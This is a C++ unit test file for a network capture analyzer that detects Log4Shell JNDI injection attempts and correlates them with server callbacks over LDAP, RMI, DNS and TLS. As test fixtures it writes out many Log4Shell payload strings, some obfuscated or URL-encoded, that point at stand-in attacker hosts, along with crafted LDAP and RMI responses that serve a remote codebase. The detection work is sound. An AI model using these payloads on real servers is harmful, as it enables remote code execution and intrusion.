#include "pcap/analyzer.h"

#include <gtest/gtest.h>

#include "pcap/test_frames.h"

namespace l4s::pcap {
namespace {

using namespace testing;  // NOLINT

// A TCP connection whose segments are numbered as it goes.
struct Conn {
  std::string cip;
  uint16_t cport;
  std::string sip;
  uint16_t sport;
  uint32_t cseq = 1000, sseq = 9000;

  std::string syn() { return tcp_frame(cip, cport, sip, sport, cseq++, kTcpSyn, ""); }
  std::string syn_ack() { return tcp_frame(sip, sport, cip, cport, sseq++, kTcpSyn | kTcpAck, ""); }
  std::string C(std::string_view data) {
    std::string f = tcp_frame(cip, cport, sip, sport, cseq, kTcpAck, data);
    cseq += static_cast<uint32_t>(data.size());
    return f;
  }
  std::string S(std::string_view data) {
    std::string f = tcp_frame(sip, sport, cip, cport, sseq, kTcpAck, data);
    sseq += static_cast<uint32_t>(data.size());
    return f;
  }
  std::string fin_c() { return tcp_frame(cip, cport, sip, sport, cseq++, kTcpFin | kTcpAck, ""); }
  std::string fin_s() { return tcp_frame(sip, sport, cip, cport, sseq++, kTcpFin | kTcpAck, ""); }
};

struct Feeder {
  CaptureAnalyzer analyzer{kLinkEthernet, options()};
  double t = 1639000000.0;
  static AnalyzerOptions options() {
    AnalyzerOptions o;
    o.capture_name = "test.pcap";
    return o;
  }
  void operator()(const std::string& frame, double dt = 0.001) {
    t += dt;
    analyzer.add_frame(t, B(frame), static_cast<uint32_t>(frame.size()));
  }
};

const NetEvent* find_event(const CaptureResult& r, EventKind kind) {
  for (const NetEvent& e : r.events)
    if (e.kind == kind) return &e;
  return nullptr;
}

TEST(CaptureAnalyzer, HttpHeaderSplitAcrossSegmentsOutOfOrder) {
  Feeder feed;
  Conn c{"203.0.113.5", 40000, "10.0.0.10", 8080};
  feed(c.syn());
  feed(c.syn_ack());
  std::string req = "GET /index HTTP/1.1\r\nHost: shop\r\nX-Api-Version: ${${lower:j}ndi:${lower:l}dap://cb.evil.example:1389/a}\r\n\r\n";
  std::string a = c.C(req.substr(0, 40));
  std::string b = c.C(req.substr(40, 30));
  std::string rest = c.C(req.substr(70));
  feed(b);  // out of order
  feed(rest);
  feed(a);
  CaptureResult r = feed.analyzer.finish();
  ASSERT_EQ(r.detections.size(), 1u);
  ASSERT_TRUE(r.detections[0].network.has_value());
  const hunt::Detection& d = r.detections[0];
  const hunt::NetworkContext& n = *d.network;
  EXPECT_EQ(n.field, "header");
  EXPECT_EQ(n.header, "X-Api-Version");
  EXPECT_EQ(n.http_method, "GET");
  EXPECT_EQ(n.http_uri, "/index");
  EXPECT_EQ(n.http_host, "shop");
  EXPECT_EQ(n.protocol, "tcp");
  EXPECT_EQ(n.src_ip, "203.0.113.5");
  EXPECT_EQ(n.src_port, 40000);
  EXPECT_EQ(n.dst_ip, "10.0.0.10");
  EXPECT_EQ(n.dst_port, 8080);
  EXPECT_EQ(n.frame, 5u);  // the segment that completed the head
  EXPECT_EQ(d.file, "test.pcap");
  EXPECT_EQ(d.line, 5u);
  EXPECT_EQ(d.source_ip, "203.0.113.5");
  EXPECT_EQ(d.timestamp.substr(0, 20), "2021-12-08T21:46:40.");
  ASSERT_EQ(d.jndi.size(), 1u);
  EXPECT_EQ(d.jndi[0].host, "cb.evil.example");
  EXPECT_EQ(d.jndi[0].port, 1389);
}

TEST(CaptureAnalyzer, ChunkedFormBodyAndKeepAliveRequests) {
  Feeder feed;
  Conn c{"198.51.100.7", 5555, "10.0.0.10", 80};
  feed(c.syn());
  feed(c.syn_ack());
  feed(c.C("POST /login HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"));
  feed(c.C("9\r\nuser=%24%\r\n"));
  feed(c.C("24\r\n7Bjndi%3Aldap%3A%2F%2F1.2.3.4%2Fx%7D\r\n0\r\n\r\n"));
  feed(c.C("GET /clean HTTP/1.1\r\nHost: a\r\n\r\n"));
  feed(c.C("GET /${jndi:rmi://5.6.7.8:1099/o} HTTP/1.1\r\nHost: a\r\n\r\n"));
  CaptureResult r = feed.analyzer.finish();
  ASSERT_EQ(r.detections.size(), 2u);
  EXPECT_EQ(r.detections[0].network->field, "body");
  EXPECT_EQ(r.detections[0].network->http_uri, "/login");
  EXPECT_EQ(r.detections[0].jndi.at(0).host, "1.2.3.4");
  EXPECT_EQ(r.detections[1].network->field, "request_line");
  EXPECT_EQ(r.detections[1].jndi.at(0).scheme, "rmi");
}

TEST(CaptureAnalyzer, BrokenChunkFramingKeepsTheRestOfTheBody) {
  Feeder feed;
  Conn c{"198.51.100.7", 5556, "10.0.0.10", 80};
  feed(c.C("POST /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello"));
  feed(c.C("XYZ=${jndi:ldap://9.9.9.9/c}"));  // no CRLF after the chunk: the framing is lost
  feed(c.fin_c());
  CaptureResult r = feed.analyzer.finish();
  ASSERT_EQ(r.detections.size(), 1u);
  EXPECT_EQ(r.detections[0].network->field, "body");
  EXPECT_EQ(r.detections[0].jndi.at(0).host, "9.9.9.9");
}

// Regression: a body whose last bytes had been consumed was never examined
// when the stream ended before its declared length.
TEST(CaptureAnalyzer, BodyCutShortByTheEndOfTheCaptureIsExamined) {
  Feeder feed;
  Conn c{"198.51.100.7", 5557, "10.0.0.10", 80};
  feed(c.C("POST /x HTTP/1.1\r\nContent-Length: 500\r\n\r\nq=${jndi:ldap://9.9.9.8/c}"));
  CaptureResult r = feed.analyzer.finish();
  ASSERT_EQ(r.detections.size(), 1u);
  EXPECT_EQ(r.detections[0].network->field, "body");
}

TEST(CaptureAnalyzer, RawTcpAndUdpPayloadsAreExamined) {
  Feeder feed;
  Conn smtp{"192.0.2.9", 2525, "10.0.0.25", 25};
  feed(smtp.C("EHLO x\r\nMAIL FROM:<${jndi:ldap://192.0.2.9/smtp}@x>\r\n"));
  feed(udp_frame("10.0.0.3", 514, "10.0.0.4", 514, "<13>Dec 10 app: user ${jndi:dns://192.0.2.9/u}"));
  CaptureResult r = feed.analyzer.finish();
  ASSERT_EQ(r.detections.size(), 2u);
  // SMTP is not HTTP: its lines are examined as they arrive, before the datagram.
  EXPECT_EQ(r.detections[0].network->field, "payload");
  EXPECT_EQ(r.detections[0].network->protocol, "tcp");
  EXPECT_EQ(r.detections[0].network->dst_port, 25);
  EXPECT_EQ(r.detections[1].network->protocol, "udp");
  EXPECT_EQ(r.detections[1].network->field, "payload");
}

std::string jndi_bind() { return hex("300c020101600702010304008000"); }
std::string jndi_search() {  // lookup("ldap://h/tok-abc123")
  return hex("304c020102632a040a746f6b2d6162633132330a01000a0103020100020100010100870b6f626a656374436c6173733000a01b"
             "30190417322e31362e3834302e312e3131333733302e332e342e32");
}

TEST(CaptureAnalyzer, LdapLookupAndServedReference) {
  Feeder feed;
  Conn c{"10.0.0.10", 43000, "198.51.100.66", 1389};
  feed(c.syn());
  feed(c.syn_ack());
  feed(c.C(jndi_bind()));
  feed(c.S(hex("300c02010161070a010004000400")));
  std::string search = jndi_search();
  feed(c.C(search.substr(0, 20)));  // a PDU split across segments
  feed(c.C(search.substr(20)));
  feed(c.S(hex("3072020102646d04066a636e3777683063301e04126a61766153657269616c697a6564446174613108040668656c6c6f0a"
               "3029040c6a617661436f64654261736531190417687474703a2f2f3137322e31382e302e333a383138302f3016040d6a61"
               "7661436c6173734e616d6531050403666f6f")));
  CaptureResult r = feed.analyzer.finish();
  const NetEvent* s = find_event(r, EventKind::kLdapSearch);
  ASSERT_NE(s, nullptr);
  EXPECT_EQ(s->name, "tok-abc123");
  EXPECT_TRUE(s->jndi_fingerprint);
  EXPECT_EQ(s->flow.src_ip, "10.0.0.10");
  EXPECT_EQ(s->flow.dst_port, 1389);
  EXPECT_NE(s->detail.find("port 1389 is not a directory port"), std::string::npos) << s->detail;
  const NetEvent* e = find_event(r, EventKind::kLdapJavaEntry);
  ASSERT_NE(e, nullptr);
  EXPECT_TRUE(e->served);
  EXPECT_EQ(e->flow.src_ip, "10.0.0.10") << "oriented JVM -> LDAP server";
  EXPECT_NE(e->detail.find("javaCodeBase=http://172.18.0.3:8180/"), std::string::npos);
}

TEST(CaptureAnalyzer, AuthenticatedDirectorySearchIsNotAJndiLookup) {
  Feeder feed;
  Conn c{"10.0.0.10", 43001, "10.0.0.2", 389};
  // Simple bind as cn=admin with a password, then a subtree search.
  feed(c.C(hex("302102010160" "1c" "020103" "040e" "636e3d61646d696e2c64633d78" "79" "8007" "73656372657421")));
  std::string subtree = jndi_search();
  subtree[21] = 2;
  feed(c.C(subtree));
  CaptureResult r = feed.analyzer.finish();
  EXPECT_EQ(find_event(r, EventKind::kLdapSearch), nullptr);
}

TEST(CaptureAnalyzer, RmiLookupAndClassReturn) {
  Feeder feed;
  Conn c{"10.0.0.10", 45994, "198.51.100.66", 1099};
  feed(c.syn());
  feed(c.syn_ack());
  feed(c.C(hex("4a524d4900024b")));
  feed(c.S(hex("4e000931302e302e302e31300000b3aa")));
  feed(c.C(hex("000931302e302e302e313000000000")));
  feed(c.C(hex("50aced00057722000000000000000000000000000000000000000000000000000244154dc9d4e63bdf7400066f7339666c73")));
  feed(c.S(hex("51cafebabe0000003400")));
  feed(c.fin_s());
  CaptureResult r = feed.analyzer.finish();
  const NetEvent* l = find_event(r, EventKind::kRmiLookup);
  ASSERT_NE(l, nullptr);
  EXPECT_EQ(l->name, "os9fls");
  EXPECT_TRUE(l->jndi_fingerprint);
  const NetEvent* ret = find_event(r, EventKind::kRmiReturn);
  ASSERT_NE(ret, nullptr);
  EXPECT_EQ(ret->detail, "ReturnData: class file");
  EXPECT_TRUE(ret->served);
}

TEST(CaptureAnalyzer, DnsTxtQueryWithoutEdnsIsJndi) {
  Feeder feed;
  std::string q = hex("abcd01000001000000000000") + "\x08" + "1qaz2wsx" + std::string("\x00\x00\x10\x00\x01", 5);
  feed(udp_frame("172.16.238.10", 56754, "10.10.10.31", 53, q));
  std::string a = hex("abce01000001000000000000") + "\x07" + "example" + "\x03" + "org" + std::string("\x00\x00\x01\x00\x01", 5);
  feed(udp_frame("172.16.238.10", 56755, "10.0.0.53", 53, a));
  CaptureResult r = feed.analyzer.finish();
  const NetEvent* txt = find_event(r, EventKind::kDnsTxtQuery);
  ASSERT_NE(txt, nullptr);
  EXPECT_EQ(txt->name, "1qaz2wsx");
  EXPECT_EQ(txt->flow.dst_ip, "10.10.10.31");
  // An ordinary A query is context: with no attempt to tie it to, it is not kept.
  EXPECT_EQ(find_event(r, EventKind::kDnsQuery), nullptr);
  EXPECT_TRUE(r.detections.empty());
}

TEST(CaptureAnalyzer, JavaClassFetchServed) {
  Feeder feed;
  Conn c{"10.0.0.10", 50066, "198.51.100.66", 80};
  feed(c.C("GET /Exploit.class HTTP/1.1\r\nUser-Agent: Java/1.8.0_51\r\nHost: x\r\n\r\n"));
  feed(c.S("HTTP/1.1 200 OK\r\nContent-Type: application/java-vm\r\nContent-Length: 8\r\n\r\n"));
  feed(c.S(std::string("\xca\xfe\xba\xbe\0\0\0\x34", 8)));
  feed(c.C("GET /favicon.ico HTTP/1.1\r\nUser-Agent: Java/1.8.0_51\r\n\r\n"));
  CaptureResult r = feed.analyzer.finish();
  size_t fetches = 0;
  for (const NetEvent& e : r.events) fetches += e.kind == EventKind::kJavaClassFetch;
  EXPECT_EQ(fetches, 1u);
  const NetEvent* f = find_event(r, EventKind::kJavaClassFetch);
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->name, "/Exploit.class");
  EXPECT_TRUE(f->served);
  EXPECT_NE(f->detail.find("ca fe ba be"), std::string::npos) << f->detail;
}

TEST(CaptureAnalyzer, IncidentWhenTheServerContactsTheCallback) {
  Feeder feed;
  Conn in{"203.0.113.5", 40000, "10.0.0.10", 8080};
  feed(in.C("GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://198.51.100.66:1389/x}\r\n\r\n"));
  Conn out{"10.0.0.10", 43000, "198.51.100.66", 1389};
  feed(out.syn(), 0.05);
  CaptureResult r = feed.analyzer.finish();
  ASSERT_EQ(r.incidents.size(), 1u);
  const Incident& i = r.incidents[0];
  EXPECT_TRUE(i.same_host);
  EXPECT_EQ(i.server_ip, "10.0.0.10");
  EXPECT_EQ(i.callback, "ldap://198.51.100.66:1389/x");
  EXPECT_EQ(r.events[i.event].kind, EventKind::kTcpConnect);
  EXPECT_NE(i.summary.find("this server (10.0.0.10) evaluated the payload"), std::string::npos) << i.summary;
}

TEST(CaptureAnalyzer, NoIncidentForAnotherPortOrAContactBeforeTheAttempt) {
  Feeder feed;
  Conn early{"10.0.0.10", 42000, "198.51.100.66", 1389};
  feed(early.syn());
  Conn in{"203.0.113.5", 40000, "10.0.0.10", 8080};
  feed(in.C("GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://198.51.100.66:1389/x}\r\n\r\n"), 5);
  Conn other{"10.0.0.10", 43000, "198.51.100.66", 1390};
  feed(other.syn());
  CaptureResult r = feed.analyzer.finish();
  EXPECT_EQ(r.detections.size(), 1u);
  EXPECT_TRUE(r.incidents.empty());
}

TEST(CaptureAnalyzer, ContextEventsAreKeptOnlyTowardsANamedCallback) {
  Feeder feed;
  for (uint16_t i = 0; i < 500; ++i) {  // clean traffic: nothing to keep
    Conn c{"10.0.0.10", static_cast<uint16_t>(20000 + i), "192.0.2.80", 443};
    feed(c.syn(), 1);
  }
  Conn just_before{"10.0.0.10", 43000, "198.51.100.66", 1389};
  feed(just_before.syn(), 1);
  Conn in{"203.0.113.5", 40000, "10.0.0.10", 8080};
  feed(in.C("GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://198.51.100.66:1389/x}\r\n\r\n"), 0.5);
  Conn after{"10.0.0.10", 43001, "192.0.2.81", 443};
  feed(after.syn(), 30);
  Conn again{"10.0.0.11", 43002, "198.51.100.66", 443};  // another host, same callback address, other port
  feed(again.syn(), 30);
  CaptureResult r = feed.analyzer.finish();
  size_t context = 0;
  for (const NetEvent& e : r.events) context += is_context_event(e.kind);
  EXPECT_EQ(context, 2u) << "only contacts with the named callback's address are kept";
  // A contact 0.5 s before the attempt (clock skew between taps) still makes the incident.
  ASSERT_EQ(r.incidents.size(), 1u);
  EXPECT_EQ(r.events[r.incidents[0].event].flow.src_port, 43000);
}

TEST(CaptureAnalyzer, IncidentByNameLookupFromAnotherHost) {
  Feeder feed;
  Conn in{"203.0.113.5", 40000, "10.0.0.10", 80};
  feed(in.C("GET /?q=${jndi:ldap://abc.cb.example.com/z} HTTP/1.1\r\n\r\n"));
  std::string q = hex("000101000001000000000000") + "\x03" + "abc" + "\x02" + "cb" + "\x07" + "example" + "\x03" + "com" +
                  std::string("\x00\x00\x01\x00\x01", 5);
  feed(udp_frame("10.0.0.99", 3333, "10.0.0.53", 53, q), 2);
  CaptureResult r = feed.analyzer.finish();
  ASSERT_EQ(r.incidents.size(), 1u);
  EXPECT_FALSE(r.incidents[0].same_host);
  EXPECT_NE(r.incidents[0].summary.find("10.0.0.99"), std::string::npos);
}

TEST(CaptureAnalyzer, IncidentByTlsServerName) {
  Feeder feed;
  Conn in{"172.17.0.1", 38166, "172.17.0.2", 8000};
  feed(in.C("GET /test HTTP/1.1\r\nUser-Agent: ${jndi:ldaps://ldaps.suspect.network:1399/a}\r\n\r\n"));
  Conn out{"172.17.0.2", 55936, "34.91.73.37", 1399};
  // A minimal client_hello naming "ldaps.suspect.network".
  std::string name = "ldaps.suspect.network";
  std::string ext;
  net::append_be16(&ext, 0);
  net::append_be16(&ext, static_cast<uint16_t>(name.size() + 5));
  net::append_be16(&ext, static_cast<uint16_t>(name.size() + 3));
  ext.push_back(0);
  net::append_be16(&ext, static_cast<uint16_t>(name.size()));
  ext += name;
  std::string body = "\x03\x03" + std::string(32, 'r') + std::string("\x00\x00\x02\x13\x01\x01\x00", 7);
  net::append_be16(&body, static_cast<uint16_t>(ext.size()));
  body += ext;
  std::string hs = std::string("\x01\x00", 2) + static_cast<char>(body.size() >> 8) + static_cast<char>(body.size());
  std::string rec = "\x16\x03\x01";
  net::append_be16(&rec, static_cast<uint16_t>(hs.size() + body.size()));
  feed(out.syn());
  feed(out.C(rec + hs + body));
  CaptureResult r = feed.analyzer.finish();
  const NetEvent* tls = find_event(r, EventKind::kTlsClientHello);
  ASSERT_NE(tls, nullptr);
  EXPECT_EQ(tls->name, name);
  ASSERT_EQ(r.incidents.size(), 1u);
  // The TCP connection to 34.91.73.37 cannot match a named callback; the server name does.
  EXPECT_EQ(r.events[r.incidents[0].event].kind, EventKind::kTlsClientHello);
}

TEST(CaptureAnalyzer, EndlessHeadIsBoundedAndStillExamined) {
  AnalyzerOptions o;
  o.max_stream_buffer = 256 * 1024;
  CaptureAnalyzer a(kLinkEthernet, o);
  Conn c{"203.0.113.5", 40000, "10.0.0.10", 80};
  std::string first = c.C("GET / HTTP/1.1\r\nX-A: ${jndi:ldap://1.2.3.4/a}\r\n");
  a.add_frame(1, B(first), static_cast<uint32_t>(first.size()));
  std::string filler = "X-Filler: " + std::string(1400, 'f') + "\r\n";
  for (int i = 0; i < 2000; ++i) {  // ~2.8 MB of header lines, never a blank line
    std::string f = c.C(filler);
    a.add_frame(1 + i * 1e-3, B(f), static_cast<uint32_t>(f.size()));
  }
  CaptureResult r = a.finish();
  ASSERT_GE(r.detections.size(), 1u);
  EXPECT_EQ(r.detections[0].jndi.at(0).host, "1.2.3.4");
}

TEST(CaptureAnalyzer, FlowLimitEvictsTheIdlestAndKeepsWorking) {
  AnalyzerOptions o;
  o.max_flows = 16;
  CaptureAnalyzer a(kLinkEthernet, o);
  double t = 1;
  // The attempt's connection stays busy while 200 others come and go idle.
  Conn in{"203.0.113.5", 40000, "10.0.0.10", 80};
  std::string head = in.C("GET / HTTP/1.1\r\nX-A: ");
  a.add_frame(t, B(head), static_cast<uint32_t>(head.size()));
  for (uint16_t i = 0; i < 200; ++i) {
    Conn other{"192.0.2.1", static_cast<uint16_t>(10000 + i), "10.0.0.10", 80};
    std::string syn = other.syn();
    a.add_frame(t += 0.01, B(syn), static_cast<uint32_t>(syn.size()));
    std::string keep = in.C(" ");
    a.add_frame(t += 0.01, B(keep), static_cast<uint32_t>(keep.size()));
  }
  std::string rest = in.C("${jndi:ldap://9.9.9.7/a}\r\n\r\n");
  a.add_frame(t += 0.01, B(rest), static_cast<uint32_t>(rest.size()));
  CaptureResult r = a.finish();
  EXPECT_GT(r.stats.dropped_flows, 150u);
  ASSERT_EQ(r.detections.size(), 1u) << "the busy flow survived every eviction";
}

TEST(CaptureAnalyzer, VxlanMirroredTrafficIsDecapsulated) {
  Feeder feed;
  std::string inner = tcp_frame("203.0.113.5", 40000, "10.0.0.10", 80, 1, kTcpAck,
                               "GET /?q=${jndi:ldap://9.9.9.6/a} HTTP/1.1\r\n\r\n");
  std::string vxlan("\x08\x00\x00\x00\x00\x00\x01\x00", 8);  // I flag, VNI 1
  feed(udp_frame("172.31.0.5", 55555, "172.31.0.9", 4789, vxlan + inner));
  CaptureResult r = feed.analyzer.finish();
  ASSERT_EQ(r.detections.size(), 1u);
  EXPECT_EQ(r.detections[0].network->src_ip, "203.0.113.5") << "the mirrored packet's addresses, not the tunnel's";
  EXPECT_EQ(r.detections[0].network->field, "request_line");
}

TEST(CaptureAnalyzer, ResponsesAreNotAttempts) {
  Feeder feed;
  Conn c{"192.168.2.6", 38782, "192.168.2.5", 8080};
  feed(c.C("GET /api HTTP/1.1\r\nuser-agent: curl\r\n\r\n"));
  feed(c.S("HTTP/1.1 200 OK\r\nContent-Length: 40\r\n\r\nHello ${jndi:ldap://192.168.2.6:1389/o}!!"));
  CaptureResult r = feed.analyzer.finish();
  EXPECT_TRUE(r.detections.empty());
}

TEST(Correlate, WindowAndDeduplication) {
  hunt::Detection d;
  d.network.emplace();
  d.network->time = 100;
  d.network->protocol = "tcp";
  d.network->src_ip = "203.0.113.5";
  d.network->src_port = 40000;
  d.network->dst_ip = "10.0.0.10";
  d.network->dst_port = 80;
  hunt::JndiTarget t;
  t.name = "rmi://198.51.100.1:1099/a";
  t.scheme = "rmi";
  t.host = "198.51.100.1";
  t.port = 1099;
  t.path = "/a";
  t.remote = true;
  d.jndi.push_back(t);
  std::vector<hunt::Detection> ds{d, d};  // the same payload in two headers
  NetEvent late;
  late.kind = EventKind::kRmiLookup;
  late.time = 100 + 601;
  late.flow = {"tcp", "10.0.0.10", 5, "198.51.100.1", 1099};
  late.name = "a";
  EXPECT_TRUE(correlate(ds, {late}, 600).empty());
  NetEvent in_time = late;
  in_time.time = 150;
  std::vector<Incident> inc = correlate(ds, {late, in_time}, 600);
  ASSERT_EQ(inc.size(), 1u);
  EXPECT_EQ(inc[0].event, 1u);
  // Same name looked up at another address (a proxy, or DNS we did not see) still counts.
  NetEvent by_name = in_time;
  by_name.flow.dst_ip = "192.0.2.200";
  EXPECT_EQ(correlate(ds, {by_name}, 600).size(), 1u);
  by_name.name = "b";
  EXPECT_TRUE(correlate(ds, {by_name}, 600).empty());
}

TEST(IsoTime, Format) {
  EXPECT_EQ(iso_time(1639497829.5), "2021-12-14T16:03:49.500000Z");
  EXPECT_EQ(iso_time(0), "1970-01-01T00:00:00.000000Z");
}

}  // namespace
}  // namespace l4s::pcap
